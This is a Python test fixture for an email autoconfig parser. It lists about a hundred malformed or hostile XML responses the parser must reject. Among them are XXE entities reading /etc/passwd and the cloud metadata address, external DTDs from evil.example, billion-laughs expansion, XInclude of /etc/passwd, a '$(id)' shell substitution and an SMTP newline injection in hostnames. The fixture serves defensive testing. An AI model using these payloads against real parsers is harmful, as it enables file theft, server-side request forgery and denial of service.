"""Autoconfig files that nobody honest writes: each gives no server at all."""

from __future__ import annotations

from tests.discovery.fake_world import config

GOOD = config(("smtp.n.example", 465, "SSL"))
_BODY = GOOD.partition("?>")[2]


def _entry(
    host: str = "smtp.n.example", port: str = "465", kind: str = "SSL", username: str = "%EMAILADDRESS%"
) -> bytes:
    return (
        f'<clientConfig version="1.1"><emailProvider id="n"><outgoingServer type="smtp"><hostname>{host}</hostname>'
        f"<port>{port}</port><socketType>{kind}</socketType><username>{username}</username>"
        "</outgoingServer></emailProvider></clientConfig>"
    ).encode()


def _with_doctype(doctype: str, host: str = "smtp.n.example") -> bytes:
    return doctype.encode() + _entry(host)


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

HOSTILE: dict[str, tuple[bytes, str]] = {
    name: (body, "text/xml")
    for name, body in {
        # Document types and entities
        "empty document type": _with_doctype("<!DOCTYPE clientConfig>"),
        "internal entity": _with_doctype('<!DOCTYPE c [<!ENTITY h "smtp.n.example">]>', "&h;"),
        "billion laughs": _with_doctype(f'<!DOCTYPE c [<!ENTITY l0 "lol">{_LAUGHS}]>', "&l9;"),
        "quadratic entity": _with_doctype(f'<!DOCTYPE c [<!ENTITY a "{"a" * 20000}">]>', "&a;" * 500),
        "external entity, file": _with_doctype('<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        "external entity, web": _with_doctype('<!DOCTYPE c [<!ENTITY x SYSTEM "http://169.254.169.254/">]>', "&x;"),
        "external subset": _with_doctype('<!DOCTYPE c SYSTEM "http://evil.example/x.dtd">'),
        "public identifier": _with_doctype('<!DOCTYPE c PUBLIC "-//X//Y//EN" "http://evil.example/x.dtd">'),
        "parameter entity": _with_doctype('<!DOCTYPE c [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]>'),
        "unparsed entity": _with_doctype('<!DOCTYPE c [<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "u" NDATA n>]>'),
        "default attribute": _with_doctype('<!DOCTYPE c [<!ATTLIST outgoingServer type CDATA "smtp">]>'),
        "undeclared entity": _entry("&host;"),
        # Encodings
        "UTF-7 declared": b'<?xml version="1.0" encoding="UTF-7"?>' + _BODY.encode(),
        "UTF-7 hidden markup": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-clientConfig+AD4-',
        "UTF-16 with mark": GOOD.encode("utf-16"),
        "UTF-16 without mark": GOOD.encode("utf-16-le"),
        "UTF-32": GOOD.encode("utf-32"),
        "EBCDIC": GOOD.encode("cp500"),
        "unknown encoding": b'<?xml version="1.0" encoding="x-evil"?>' + _BODY.encode(),
        "ISO-2022-JP": b'<?xml version="1.0" encoding="ISO-2022-JP"?>' + _BODY.encode(),
        "HZ": b'<?xml version="1.0" encoding="hz"?>' + _BODY.encode(),
        "not UTF-8": _entry().replace(b"smtp.n", b"\xff\xfe.n"),
        "overlong UTF-8": _entry().replace(b"smtp.n", b"smtp\xc0\xaen"),
        "surrogate in UTF-8": _entry().replace(b"smtp.n", b"\xed\xa0\x80.n"),
        "NUL": _entry().replace(b"smtp.n", b"smtp\0.n"),
        "control character": _entry().replace(b"smtp.n", b"smtp\x01.n"),
        # Form
        "nothing": b"",
        "a page": b"<!doctype html><html><body>404</body></html>",
        "a page without document type": b"<html><body><outgoingServer/></body></html>",
        "JSON": b'{"host": "smtp.n.example", "port": 465}',
        "cut off": _entry()[:-20],
        "two roots": _entry() + _entry(),
        "text after the end": _entry() + b"rubbish",
        "another root": _entry().replace(b"clientConfig", b"serverConfig"),
        "root in another case": _entry().replace(b"clientConfig", b"ClientConfig"),
        "server outside a provider": _entry()
        .replace(b'<emailProvider id="n">', b"")
        .replace(b"</emailProvider>", b""),
        "server too deep": _entry()
        .replace(b"<outgoingServer", b"<x><outgoingServer")
        .replace(b"</outgoingServer>", b"</outgoingServer></x>"),
        "incoming server": _entry().replace(b"outgoingServer", b"incomingServer"),
        "another type": _entry().replace(b'type="smtp"', b'type="exchange"'),
        "nested ten thousand deep": b"<clientConfig>" + b"<a>" * 10000 + b"</a>" * 10000 + b"</clientConfig>",
        "nested thirteen deep before the server": b"<clientConfig>" + b"<a>" * 13 + b"</a>" * 13 + _entry()[28:],
        "ten thousand elements": _entry().replace(b"</clientConfig>", b"<a/>" * 10000 + b"</clientConfig>"),
        "host in an attribute": _entry().replace(
            b"<hostname>smtp.n.example</hostname>", b'<hostname v="smtp.n.example"/>'
        ),
        "two hosts in one server": _entry("smtp.n.example</hostname><hostname>evil.example"),
        "two ports in one server": _entry(port="465</port><port>25"),
        "two socket types in one server": _entry(kind="plain</socketType><socketType>SSL"),
        "included file": _entry('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        "stylesheet only": b'<?xml-stylesheet href="http://evil.example/x.xsl"?><clientConfig/>',
        # Hosts
        "no host": _entry(""),
        "localhost": _entry("localhost"),
        "below localhost": _entry("mail.localhost"),
        "loopback address": _entry("127.0.0.1"),
        "metadata address": _entry("169.254.169.254"),
        "IPv6 address": _entry("::1"),
        "IPv6 address in brackets": _entry("[::1]"),
        "public address": _entry("192.0.2.1"),
        "decimal address": _entry("2130706433"),
        "hexadecimal address": _entry("0x7f000001"),
        "address of hexadecimal parts": _entry("0x7f.0x1"),
        "short address": _entry("127.1"),
        "one label": _entry("intranet"),
        "loopback in full-width digits": _entry("&#xFF11;&#xFF12;&#xFF17;.0.0.1"),
        "loopback in circled digits": _entry("&#x2460;&#x2461;&#x2466;.&#x24EA;.&#x24EA;.&#x2460;"),
        "localhost in circled letters": _entry("mail.&#x24DB;ocalhost"),
        "octal address": _entry("017700000001"),
        "a star for a host": _entry("*.n.example"),
        "host with a percent sign": _entry("smtp%2En.example"),
        "host as a network path": _entry("//n.example"),
        "host in a processing instruction": _entry("<?host smtp.n.example?>"),
        "shell in the host": _entry("$(id).example"),
        "host with port": _entry("smtp.n.example:465"),
        "host with user": _entry("user@smtp.n.example"),
        "host with path": _entry("smtp.n.example/x"),
        "host as URL": _entry("smtp://smtp.n.example"),
        "host as file URL": _entry("file:///etc/passwd"),
        "host with a blank": _entry("smtp.n.example evil.example"),
        "host with a line end": _entry("smtp.n.example&#10;RCPT TO:&lt;x@y&gt;"),
        "host with a zero-width space": _entry("smtp.n&#x200B;.example"),
        "host with a direction mark": _entry("smtp.n&#x202E;.example"),
        "host with markup": _entry("&lt;img src=x&gt;.example"),
        "host too long": _entry(".".join(["a" * 60] * 6)),
        "label too long": _entry("a" * 64 + ".example"),
        "host with an empty label": _entry("smtp..example"),
        "host with a hyphen first": _entry("-smtp.example"),
        "unknown placeholder in the host": _entry("smtp.%REALNAME%.example"),
        "text of a whole kilobyte": _entry("a" * 5000),
        # Ports and security
        "no port": _entry(port=""),
        "port zero": _entry(port="0"),
        "port too large": _entry(port="65536"),
        "huge port": _entry(port="9" * 5000),
        "negative port": _entry(port="-465"),
        "port with a sign": _entry(port="+465"),
        "port in hexadecimal": _entry(port="0x1d1"),
        "port with an exponent": _entry(port="4e2"),
        "port as text": _entry(port="smtps"),
        "port in other digits": _entry(port="&#x664;&#x666;&#x665;"),
        "port with a fraction": _entry(port="465.0"),
        "port 25": _entry(port="25", kind="STARTTLS"),
        "port 25 with TLS": _entry(port="25"),
        "cleartext": _entry(port="587", kind="plain"),
        "no socket type": _entry(kind=""),
        "unknown socket type": _entry(kind="none"),
        "two words for the socket type": _entry(kind="SSL,plain"),
        "server inside the incoming one": _entry()
        .replace(b"<outgoingServer", b'<incomingServer type="imap"><outgoingServer')
        .replace(b"</outgoingServer>", b"</outgoingServer></incomingServer>"),
        "opportunistic": _entry(kind="STARTTLS-if-available"),
    }.items()
}
HOSTILE["UTF-7 in the header of the answer"] = (_entry(), "text/xml; charset=utf-7")
HOSTILE["two encodings"] = (GOOD.encode(), "text/xml; charset=iso-8859-1")
